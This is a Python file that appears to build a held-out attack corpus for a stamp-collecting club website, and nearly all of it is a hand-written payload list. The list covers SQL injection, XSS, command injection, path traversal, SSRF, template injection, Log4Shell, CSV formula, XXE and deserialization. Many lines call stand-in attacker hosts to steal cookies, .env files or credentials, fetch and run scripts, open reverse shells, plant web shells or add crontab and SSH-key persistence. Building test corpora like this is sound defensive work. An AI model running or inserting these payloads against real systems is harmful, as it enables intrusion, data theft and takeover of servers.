#!/usr/bin/env python3
"""Attack corpus for the philately held-out set. Stdlib only, deterministic.

DATA holds the hand-written literals: '## <category>' lines, then
'<class> ⟫ <value>' lines. {NL}, {CR} stand for a raw LF / CR in the value.
A few extra values join a hand-written payload pool to hand-written theme
prefixes and percent-encode every byte (class suffix '+urlencode').
"""
import json
import os
import random

SEED = 30802
HERE = os.path.dirname(os.path.abspath(__file__))
SEP = " \u27eb "

DATA = r'''
## sqli
union ⟫ SG 43' UNION SELECT username, password_hash, NULL FROM members--
union ⟫ penny red' union all select null,concat(login,0x3a,pass),null,null from society_users-- -
union ⟫ 1d black%' UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()#
union ⟫ 112 UNION SELECT 1,group_concat(email SEPARATOR ';'),3,4 FROM bidders
union ⟫ lot 245') UNION SELECT card_number,expiry,cvv FROM payments--
union ⟫ Scott C3a' UnIoN/**/SeLeCt/**/1,@@version,3-- x
union ⟫ -1 union select 1,2,column_name,4 from information_schema.columns where table_name='members'
union ⟫ Michel 1' UNION SELECT NULL,NULL,sqlite_version()--
union ⟫ Mauritius' union select name, sql, null from sqlite_master--
union ⟫ 88/**/UNION/**/ALL/**/SELECT/**/NULL,pg_read_file('/etc/passwd'),NULL--
union ⟫ Cérès'%20UNION%20SELECT%20user(),2,3--%20
union ⟫ 1840' UNION SELECT banner,NULL FROM v$version WHERE rownum=1--
union ⟫ inverted jenny' UNION SELECT TOP 1 name,NULL FROM sys.databases--
boolean ⟫ SG 1' OR '1'='1
boolean ⟫ O'Brien' OR 1=1-- 
boolean ⟫ ' or 'stamp'='stamp' -- circuit owner lookup
boolean ⟫ lot 17' AND 1=1 AND 'a'='a
boolean ⟫ 112 AND SUBSTRING((SELECT password FROM members WHERE id=1),1,1)='a'
boolean ⟫ plate 77' AND ASCII(SUBSTR((SELECT api_key FROM settings),1,1))>64--
boolean ⟫ 1' or 1 like 1#
boolean ⟫ perf 14') OR ('x'='x
boolean ⟫ hon.sec'--
boolean ⟫ treasurer@club.example' OR 2>1 LIMIT 1 --
boolean ⟫ 99 OR true
boolean ⟫ SG 55a'||'1'='1
boolean ⟫ Hong Kong' and (select count(*) from members)>0 and '1'='1
boolean ⟫ ' OR EXISTS(SELECT 1 FROM auction_bids WHERE max_bid>1000)--
boolean ⟫ 1 AnD 7346=7346
boolean ⟫ 1d%27%20or%20%271%27%3D%271
time ⟫ SG 43' AND SLEEP(5)-- 
time ⟫ 1 AND (SELECT 4242 FROM (SELECT(SLEEP(7)))abc)
time ⟫ lot 88'; WAITFOR DELAY '0:0:8'--
time ⟫ Penny Black' || pg_sleep(6) || '
time ⟫ 245 AND 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)
time ⟫ x' AND BENCHMARK(5000000,MD5('philately'))-- -
time ⟫ 1' and if(substr(user(),1,1)='r',sleep(4),0)#
time ⟫ Yvert 1' AND 1=dbms_pipe.receive_message('a',9)--
time ⟫ plate 9' AND randomblob(300000000)-- 
time ⟫ 1);SELECT pg_sleep(10);--
error ⟫ SG 1' AND extractvalue(1,concat(0x7e,(SELECT password FROM members LIMIT 1)))-- 
error ⟫ 1 and updatexml(null,concat(0x0a,version()),null)
error ⟫ lot 12' AND 1=CONVERT(int,(SELECT TOP 1 email FROM bidders))--
error ⟫ ' AND 1=CAST((SELECT string_agg(password,',') FROM members) AS int)--
error ⟫ Michel 2' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- 
error ⟫ 1 AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))
stacked ⟫ Lot 17 kiloware'; DROP TABLE auction_lots;--
stacked ⟫ great stamps'; UPDATE members SET role='admin' WHERE login='jsmith';--
stacked ⟫ 1; INSERT INTO bids(lot_id,member_id,amount) VALUES (468,7,1);--
stacked ⟫ x'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/s.ps1|iex';--
stacked ⟫ 120; DELETE FROM certificates WHERE 1=1
stacked ⟫ Zemstvo'; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.9/x|sh';--
stacked ⟫ '; ATTACH DATABASE '/var/www/stamps/shell.php' AS p; CREATE TABLE p.t(x text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--
stacked ⟫ 1'; SELECT '<?php eval($_POST[k]) ?>' INTO OUTFILE '/var/www/html/uploads/lot.php'-- 
stacked ⟫ lot 500';SHUTDOWN--
stacked ⟫ '; GRANT ALL PRIVILEGES ON *.* TO 'dealer'@'%';--
orderby ⟫ sg_no ASC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM members LIMIT 1)='a' THEN 1 ELSE 1/0 END)
orderby ⟫ estimate DESC,IF((SELECT COUNT(*) FROM admins)>0,lot_no,estimate)
orderby ⟫ 1,(select sleep(3))
orderby ⟫ year ORDER BY 9-- 
orderby ⟫ (CASE WHEN (1=1) THEN sg_no ELSE country END)
obfuscated ⟫ SG 43'/*!50000UnIoN*//*!50000SeLeCt*/1,2,3-- -
obfuscated ⟫ 1'%0aunion%0aselect%0a1,user(),3%23
obfuscated ⟫ plate'+uNiOn+aLl+sElEcT+null,pass,null+fRoM+members--+
obfuscated ⟫ 1d black' UN/**/ION SEL/**/ECT 1,2,3 -- (comment split for old filters)
obfuscated ⟫ ' uni%6fn sel%65ct 1,password,3 from members--
obfuscated ⟫ 1%2527%2520or%25201%253D1--
obfuscated ⟫ ＇ ｏｒ １＝１－－
obfuscated ⟫ SG%C0%A7 OR 1=1--
obfuscated ⟫ x'||(SELECT CHR(97)||CHR(100)||CHR(109) FROM dual)||'
obfuscated ⟫ 1 or 0x31=0x31
obfuscated ⟫ lot 245' AND 'a'=CHAR(97)--
obfuscated ⟫ Sachsen%u0027 OR 1=1--
obfuscated ⟫ '	OR	1=1	--	
second-order ⟫ John O'Brien'); UPDATE members SET password='x' WHERE '1'='1'--
second-order ⟫ Smith', (SELECT password FROM members WHERE login='admin'))-- 
second-order ⟫ circuit owner: d'souza' OR username LIKE 'a%'--
json-sql ⟫ {"sg_no":"43' OR '1'='1","qty":1}
## xss
script ⟫ <script>fetch('//attacker.example/c?'+document.cookie)</script>
script ⟫ Lovely Penny Black!<script>new Image().src="https://attacker.example/l?c="+encodeURIComponent(document.cookie)</script>
script ⟫ </textarea><script>alert(document.domain)</script>
script ⟫ </title><script src=//attacker.example/hook.js></script>
script ⟫ Lot 112 notes <ScRiPt>prompt(1)</sCrIpT>
script ⟫ <script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))</script>
script ⟫ <script/x>location='https://attacker.example/?'+localStorage.getItem('token')</script>
script ⟫ <script type="module">import('//attacker.example/m.js')</script>
event ⟫ <img src=x onerror=alert(1)> nice block of 4
event ⟫ Scan of SG 55a: <img src="/scans/55a.jpg" onerror="this.src='//attacker.example/p?'+document.cookie">
event ⟫ <svg onload=fetch('//attacker.example/'+document.cookie)>
event ⟫ <svg/onload=alert`1`>
event ⟫ <body onload="location='https://attacker.example/steal?'+document.cookie">
event ⟫ <details open ontoggle=alert(document.cookie)>
event ⟫ <input autofocus onfocus=alert(1) value="bid 40">
event ⟫ <video><source onerror="alert(origin)"></video>
event ⟫ <audio src=1 onerror=confirm(1)>
event ⟫ <marquee onstart=alert(1)>Stamp fair!</marquee>
event ⟫ <div onmouseover="alert('circuit')" style="position:fixed;inset:0">x</div>
event ⟫ <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
event ⟫ <select autofocus onfocus=alert(1)>
event ⟫ <object data="javascript:alert(1)">
event ⟫ <embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
event ⟫ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
event ⟫ <form><button formaction=javascript:alert(1)>Place bid</button></form>
event ⟫ <a href="#" onclick="fetch('/api/bids',{method:'POST',body:'lot=468&amount=1'})">see scan</a>
event ⟫ <img src=1 oNeRrOr=alert(1)>
event ⟫ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
event ⟫ <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
event ⟫ <img src=x onerror="&#x61;lert(document.cookie)">
event ⟫ <body onpageshow=alert(1)>
event ⟫ <x contenteditable onblur=alert(1)>lose focus</x>
event ⟫ <img/src=x/onerror=alert(1)//
event ⟫ <isindex type=image src=1 onerror=alert(1)>
event ⟫ <keygen autofocus onfocus=alert(1)>
event ⟫ <style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">
url ⟫ <a href="javascript:alert(document.cookie)">Certificate PDF</a>
url ⟫ <a href="JaVaScRiPt:alert(1)">lot 245</a>
url ⟫ <a href="jav&#x09;ascript:alert(1)">scan</a>
url ⟫ <a href="java&#115;cript&colon;alert(1)">view</a>
url ⟫ [Certificate](javascript:alert(document.domain))
url ⟫ [see scan](javascript://%0aalert(1))
url ⟫ <iframe src="javascript:alert(1)">
url ⟫ <a href="data:text/html,<script>alert(1)</script>">Catalogue</a>
url ⟫ <form action="javascript:alert(1)"><input type=submit value="Bid"></form>
url ⟫ <base href="//attacker.example/">
url ⟫ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
url ⟫ <link rel=import href="//attacker.example/x.html">
attr-break ⟫ " onmouseover="alert(1)" x="
attr-break ⟫ SG 43" autofocus onfocus="alert(document.cookie)
attr-break ⟫ ' onfocus='alert(1)' autofocus='
attr-break ⟫ "><img src=x onerror=alert(1)>
attr-break ⟫ Penny Red"><svg onload=alert(1)>
attr-break ⟫ x" style="background:url(javascript:alert(1))
attr-break ⟫ '><script>alert(1)</script>
js-context ⟫ ';alert(document.cookie);//
js-context ⟫ </script><script>alert(1)</script>
js-context ⟫ "-alert(1)-"
js-context ⟫ \';alert(1);//
js-context ⟫ ${alert(document.domain)}`;//
js-context ⟫ '+fetch('//attacker.example/'+document.cookie)+'
js-context ⟫ 1d black\u0027);alert(1);//
encoded ⟫ %3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded ⟫ %253Csvg%2520onload%253Dalert(1)%253E
encoded ⟫ &lt;img src=x onerror=alert(1)&gt; -- (for a field that is entity-decoded before render)
encoded ⟫ \u003cimg src=x onerror=alert(1)\u003e
encoded ⟫ ＜script＞alert(1)＜/script＞
encoded ⟫ %uff1cscript%uff1ealert(1)%uff1c/script%uff1e
encoded ⟫ \x3cscript\x3ealert(1)\x3c/script\x3e
encoded ⟫ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
encoded ⟫ <scr<script>ipt>alert(1)</scr</script>ipt>
template ⟫ {{constructor.constructor('alert(1)')()}}
template ⟫ <div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>
template ⟫ <div v-html="'<img src=x onerror=alert(1)>'"></div>
dom ⟫ #<img src=x onerror=alert(1)>
dom ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
dom ⟫ <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>Lot photo</text></a></svg>
dom ⟫ <xss id=x tabindex=1 onfocusin=alert(1)></xss>
css ⟫ <style>body{background:url("https://attacker.example/track?u=member")}</style><div style="width:expression(alert(1))">
## cmdi
separator ⟫ scan_55a.jpg; curl http://attacker.example/x.sh | sh
separator ⟫ lot112.png && wget -qO- 203.0.113.7/k | bash
separator ⟫ certificate.pdf | nc 198.51.100.4 4444 -e /bin/sh
separator ⟫ export.csv || id
separator ⟫ album1.tif; cat /etc/passwd
separator ⟫ penny_black.jpg & ping -n 20 127.0.0.1 &
separator ⟫ 1d-red.png;rm -rf /var/www/stamps/uploads
separator ⟫ scan.jpg%0aid
separator ⟫ scan.jpg%0Acat%20/etc/shadow
separator ⟫ 43.jpg%0d%0awget 203.0.113.7/b -O /tmp/b;sh /tmp/b
newline ⟫ plate77.jpg%0Awhoami%0A
substitution ⟫ $(curl -s http://attacker.example/$(whoami))
substitution ⟫ circuit_`id`.pdf
substitution ⟫ SG43_`uname -a`.png
substitution ⟫ lot$(sleep 9).jpg
substitution ⟫ cert_$(cat /etc/hostname | base64).pdf
substitution ⟫ scan.jpg$(nslookup $(whoami).attacker.example)
substitution ⟫ "; $(bash -i >& /dev/tcp/203.0.113.50/9001 0>&1) #
reverse-shell ⟫ album.jpg; bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'
reverse-shell ⟫ x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
reverse-shell ⟫ ; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.11 9999 >/tmp/f
reverse-shell ⟫ ; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(7777,inet_aton("198.51.100.8")));open(STDIN,">&S");exec("/bin/sh -i")'
reverse-shell ⟫ | php -r '$s=fsockopen("attacker.example",443);exec("/bin/sh -i <&3 >&3 2>&3");'
reverse-shell ⟫ ; socat tcp:203.0.113.14:5555 exec:'bash -li',pty,stderr
obfuscated ⟫ ;c'a't /e't'c/pa's'swd
obfuscated ⟫ ;ca\t /et\c/pas\swd
obfuscated ⟫ ;cat${IFS}/etc/passwd
obfuscated ⟫ ;{cat,/etc/passwd}
obfuscated ⟫ ;/???/c?t /e??/p?ss??
obfuscated ⟫ ;$(printf '\x69\x64')
obfuscated ⟫ ;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3h8c2g= | base64 -d | sh
obfuscated ⟫ ;a=ca;b=t;$a$b /etc/passwd
obfuscated ⟫ ;w'h'o'am'i
obfuscated ⟫ ;cat$IFS$9/etc/passwd
obfuscated ⟫ ;X=$'\x2fetc\x2fpasswd';cat $X
obfuscated ⟫ ;/bin/c[a]t /etc/pass[w]d
obfuscated ⟫ ;"w"h"o"a"m"i
obfuscated ⟫ ;${PATH:0:1}bin${PATH:0:1}id
exfil ⟫ scan.tif; curl -F f=@/var/www/stamps/.env https://attacker.example/up
exfil ⟫ ; wget --post-file=/etc/passwd http://198.51.100.77/
exfil ⟫ ; ping -c1 $(hostname).attacker.example
exfil ⟫ `dig +short $(id -u).attacker.example`
exfil ⟫ ; tar czf - /var/backups/members | curl -T - ftp://203.0.113.3/
persistence ⟫ ; echo '* * * * * curl attacker.example/c|sh' | crontab -
persistence ⟫ ; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKE attacker' >> ~/.ssh/authorized_keys
windows ⟫ certificate.pdf & type C:\Windows\win.ini
windows ⟫ scan.jpg | powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
windows ⟫ lot.jpg && certutil -urlcache -split -f http://203.0.113.21/p.exe %TEMP%\p.exe && %TEMP%\p.exe
windows ⟫ x & cmd /c whoami > \\203.0.113.30\share\o.txt
windows ⟫ a.png | net user backup P@ssw0rd_FAKE /add
windows ⟫ x;powershell -enc SQBFAFgAKABpAHcAcgAgAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUAKQA=
windows ⟫ ^&^ w^h^o^a^m^i
windows ⟫ %COMSPEC% /c dir C:\inetpub
argument ⟫ --output=/var/www/html/s.php
argument ⟫ -o ProxyCommand=curl${IFS}attacker.example/x|sh
argument ⟫ scan.jpg -exec sh -c 'id' ;
argument ⟫ --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument ⟫ -oProxyCommand="nc 203.0.113.4 22"
argument ⟫ x --use-compress-program='sh -c id'
imagetragick ⟫ push graphic-context viewbox 0 0 640 480 fill 'url(https://attacker.example/x.jpg"|curl "203.0.113.2/i)' pop graphic-context
imagetragick ⟫ image over 0,0 0,0 'ephemeral:/var/www/stamps/config.php'
ghostscript ⟫ %!PS userdict /setpagedevice undef legal { null restore } stopped { pop } if (%pipe%id > /tmp/o) (w) file
mail ⟫ member@club.example -OQueueDirectory=/tmp -X/var/www/html/shell.php
mail ⟫ "attacker\" -oQ/tmp/ -X/var/www/html/x.php some"@attacker.example
newline-bare ⟫ scan.jpg{NL}curl attacker.example/s | sh
newline-bare ⟫ export.csv{NL}nc -e /bin/sh 198.51.100.9 1337
timing ⟫ scan.jpg;sleep 10;
timing ⟫ x||ping -c 12 127.0.0.1||
timing ⟫ lot245.jpg | sleep 15 #
substitution ⟫ SG 1 black $(id>/var/www/stamps/static/o.txt)
separator ⟫ catalogue_2024.pdf ; curl -d @/etc/passwd attacker.example
## traversal
dotdot ⟫ ../../../../etc/passwd
dotdot ⟫ scans/../../../../../etc/shadow
dotdot ⟫ ../../../var/www/stamps/config/database.yml
dotdot ⟫ certificates/2019/../../../../../root/.ssh/id_rsa
dotdot ⟫ ../../../../proc/self/environ
dotdot ⟫ exports/../../.env
dotdot ⟫ album_pages/../../../../home/treasurer/.bash_history
dotdot ⟫ lot112.jpg/../../../../../etc/hosts
dotdot ⟫ ../../../../../../../../../../etc/passwd%00.jpg
dotdot ⟫ ..\..\..\..\windows\win.ini
dotdot ⟫ scans\..\..\..\inetpub\wwwroot\web.config
dotdot ⟫ ..\\..\\..\\boot.ini
dotdot ⟫ ../../../../../../etc/passwd\u0000.pdf
dotdot ⟫ /var/www/stamps/uploads/../../../../etc/group
dotdot ⟫ ../../WEB-INF/web.xml
dotdot ⟫ ../../../../usr/local/tomcat/conf/tomcat-users.xml
dotdot ⟫ ../../../../var/log/nginx/access.log
dotdot ⟫ ..;/..;/..;/etc/passwd
dotdot ⟫ ....//....//....//etc/passwd
dotdot ⟫ ...\.\...\.\...\.\windows\system32\drivers\etc\hosts
dotdot ⟫ .../.../.../etc/passwd
encoded ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded ⟫ ..%2f..%2f..%2f..%2fetc%2fshadow
encoded ⟫ %2e%2e/%2e%2e/%2e%2e/proc/self/cmdline
encoded ⟫ ..%252f..%252f..%252fetc%252fpasswd
encoded ⟫ %252e%252e%252f%252e%252e%252fapp%252fconfig.yml
encoded ⟫ ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded ⟫ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded ⟫ ..%e0%80%af..%e0%80%afetc/passwd
encoded ⟫ %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded ⟫ ..%5c..%5c..%5cwindows%5cwin.ini
encoded ⟫ ..%255c..%255c..%255cwindows%255csystem.ini
encoded ⟫ ．．／．．／．．／etc／passwd
encoded ⟫ ..%u2216..%u2216windows%u2216win.ini
encoded ⟫ %2e%2e%5c%2e%2e%5cboot.ini
encoded ⟫ ..%00/..%00/etc/passwd
absolute ⟫ /etc/passwd
absolute ⟫ file:///etc/passwd
absolute ⟫ C:\Windows\System32\config\SAM
absolute ⟫ /proc/self/fd/3
absolute ⟫ \\198.51.100.40\share\scan.jpg
wrapper ⟫ php://filter/convert.base64-encode/resource=../config.php
wrapper ⟫ php://filter/read=string.rot13/resource=index.php
wrapper ⟫ zip://uploads/lot245.zip%23shell.php
wrapper ⟫ phar://uploads/scan_55a.jpg/x
wrapper ⟫ expect://id
wrapper ⟫ data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+
## ssrf
metadata ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata ⟫ http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata ⟫ http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata ⟫ http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/
metadata ⟫ http://[fd00:ec2::254]/latest/meta-data/
metadata ⟫ http://100.100.100.200/latest/meta-data/ram/security-credentials/
metadata ⟫ http://169.254.170.2/v2/credentials
internal ⟫ http://127.0.0.1:8080/admin/members/export
internal ⟫ http://localhost/server-status
internal ⟫ http://localhost:6379/
internal ⟫ http://10.0.0.5:9200/_cat/indices
internal ⟫ http://192.168.1.1/cgi-bin/luci
internal ⟫ http://172.16.0.10:2375/containers/json
internal ⟫ https://intranet.stamps.local/treasurer/accounts.xlsx
internal ⟫ http://auction-db:5984/_all_dbs
internal ⟫ http://127.0.0.1:8500/v1/agent/self
internal ⟫ http://localhost:15672/api/users
internal ⟫ http://kubernetes.default.svc/api/v1/namespaces/default/secrets
alt-ip ⟫ http://2130706433/admin
alt-ip ⟫ http://0x7f000001/admin
alt-ip ⟫ http://0177.0.0.1/
alt-ip ⟫ http://127.1/
alt-ip ⟫ http://0/
alt-ip ⟫ http://[::1]:8080/
alt-ip ⟫ http://[::ffff:169.254.169.254]/latest/meta-data/
alt-ip ⟫ http://2852039166/latest/meta-data/
alt-ip ⟫ http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/
alt-ip ⟫ http://0251.0376.0251.0376/latest/user-data
alt-ip ⟫ http://169.254.169.254.nip.io/latest/meta-data/
alt-ip ⟫ http://①②⑦.⓪.⓪.①/admin
alt-ip ⟫ http://127.0.0.1.attacker.example/
bypass ⟫ http://attacker.example@127.0.0.1/admin
bypass ⟫ http://scans.philately-club.example.org@169.254.169.254/latest/meta-data/
bypass ⟫ http://127.0.0.1#@scans.philately-club.example.org/
bypass ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
bypass ⟫ http://rebind.attacker.example:8080/admin
bypass ⟫ http://127.0.0.1%2523@images.example.com/
bypass ⟫ http://loc%61lhost/admin
scheme ⟫ gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ASAVE%0D%0A
scheme ⟫ gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cnoreply%40club.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40attacker.example%3E
scheme ⟫ dict://127.0.0.1:11211/stats
scheme ⟫ file:///var/www/stamps/.env
scheme ⟫ ftp://10.1.2.3/backups/members.sql
scheme ⟫ ldap://127.0.0.1:389/%0astats%0aquit
scheme ⟫ tftp://203.0.113.60/x
scheme ⟫ jar:http://attacker.example/x.zip!/a.txt
scheme ⟫ netdoc:///etc/passwd
embedded ⟫ Import catalogue images from: http://127.0.0.1:9000/minio/admin/v3/info
embedded ⟫ <img src="http://169.254.169.254/latest/meta-data/hostname">
embedded ⟫ Certificate scan URL: http://127.0.0.1:2379/v2/keys/?recursive=true
## code
ssti ⟫ {{7*'7'}} {{config.items()}}
ssti ⟫ Dear {{member.name}}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti ⟫ {{''.__class__.__mro__[1].__subclasses__()}}
ssti ⟫ {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti ⟫ {{request.application.__globals__.__builtins__.__import__('os').popen('curl attacker.example|sh').read()}}
ssti ⟫ {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti ⟫ {{lipsum.__globals__['os'].popen('whoami').read()}}
ssti ⟫ {{ joiner.__init__.__globals__.os.environ }}
ssti ⟫ {{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
ssti ⟫ Auction newsletter {{ url_for.__globals__.current_app.config['SECRET_KEY'] }}
ssti ⟫ ${T(java.lang.Runtime).getRuntime().exec('id')}
ssti ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti ⟫ #set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
ssti ⟫ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti ⟫ {{['id']|filter('system')}}
ssti ⟫ <%= `id` %>
ssti ⟫ <%= File.open('/etc/passwd').read %>
ssti ⟫ #{7*7}#{T(java.lang.System).getenv()}
ssti ⟫ {php}echo `id`;{/php}
ssti ⟫ {system('cat /etc/passwd')}
ssti ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}
ssti ⟫ <%= global.process.mainModule.require('child_process').execSync('id') %>
ssti ⟫ *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
ssti ⟫ {{range.constructor("return process.mainModule.require('child_process').execSync('id')")()}}
ssti ⟫ @(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))
ssti ⟫ {{ "".__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']("ls").read() }}
el ⟫ ${applicationScope}
el ⟫ #{facesContext.externalContext.request.getSession().invalidate()}
el ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el ⟫ ${#rt=@java.lang.Runtime@getRuntime(),#rt.exec("curl attacker.example")}
el ⟫ ${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec("id")')}
el ⟫ ${pageContext.request.getSession().setAttribute("role","admin")}
el ⟫ T(java.lang.Runtime).getRuntime().exec(new String[]{"sh","-c","id"})
eval ⟫ __import__('os').system('curl http://attacker.example/p|sh')
eval ⟫ 1);system('id');//
eval ⟫ ";eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));//
eval ⟫ require('child_process').exec('nc 203.0.113.8 4444 -e sh')
eval ⟫ process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval ⟫ <?php system($_GET['c']); ?>
eval ⟫ <?=`$_GET[x]`?>
eval ⟫ exec("import os; os.popen('id').read()")
eval ⟫ ';phpinfo();$a='
eval ⟫ assert("system('id')")
eval ⟫ Function('return process')().mainModule.require('child_process').execSync('id')
eval ⟫ `#{`id`}`
eval ⟫ open('|id').read
eval ⟫ Runtime.getRuntime().exec("/bin/sh -c id")
log4shell ⟫ ${jndi:ldap://attacker.example:1389/a}
log4shell ⟫ Penny Black ${jndi:rmi://203.0.113.15/Exploit}
log4shell ⟫ ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell ⟫ ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.6/o}
log4shell ⟫ ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell ⟫ ${j${env:X:-n}di:ldaps://attacker.example/y}
log4shell ⟫ $%7Bjndi:ldap://attacker.example/z%7D
log4shell ⟫ ${jndi:${upper:l}${upper:d}ap://203.0.113.99:389/c}
proto-pollution ⟫ {"__proto__":{"isAdmin":true}}
proto-pollution ⟫ {"constructor":{"prototype":{"role":"admin"}}}
proto-pollution ⟫ __proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
proto-pollution ⟫ {"lot":468,"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}
proto-pollution ⟫ constructor[prototype][bidLimit]=0
proto-pollution ⟫ {"__proto__":{"sourceURL":"\u2028\u2029\nglobal.process.mainModule.require('child_process').exec('id')"}}
csv-formula ⟫ =HYPERLINK("https://attacker.example/?d="&A2&B2,"View certificate")
csv-formula ⟫ =cmd|' /C calc'!A0
csv-formula ⟫ +cmd|'/c powershell iwr attacker.example/p.ps1|iex'!A1
csv-formula ⟫ -2+3+cmd|' /C notepad'!'A1'
csv-formula ⟫ @SUM(1+1)*cmd|' /C calc'!A0
csv-formula ⟫ =WEBSERVICE("https://attacker.example/x?"&ENCODEURL(C3))
csv-formula ⟫ =IMPORTXML(CONCAT("http://attacker.example/?v=",A1:C9),"//a")
csv-formula ⟫ SG 43,"=DDE(""cmd"";""/C calc"";""!A0"")",used
csv-formula ⟫ 	=1+1+cmd|'/c whoami'!Z9
csv-formula ⟫ =IMAGE("https://attacker.example/p.png?"&A1)
xxe ⟫ <?xml version="1.0"?><!DOCTYPE lot [<!ENTITY x SYSTEM "file:///etc/passwd">]><lot><desc>&x;</desc></lot>
xxe ⟫ <!DOCTYPE catalogue [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><catalogue/>
xxe ⟫ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&s;</r>
xxe ⟫ <!DOCTYPE x [<!ENTITY % p SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"><!ENTITY % e "<!ENTITY &#x25; ex SYSTEM 'http://attacker.example/?%p;'>">%e;%ex;]>
xxe ⟫ <?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;&c;&c;</a>
xxe ⟫ <svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///var/www/stamps/.env">]><text>&f;</text></svg>
xxe ⟫ <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
deserialization ⟫ O:8:"LotCache":1:{s:4:"file";s:20:"/var/www/html/x.php";}
deserialization ⟫ rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==
deserialization ⟫ cos{NL}system{NL}(S'id'{NL}tR.
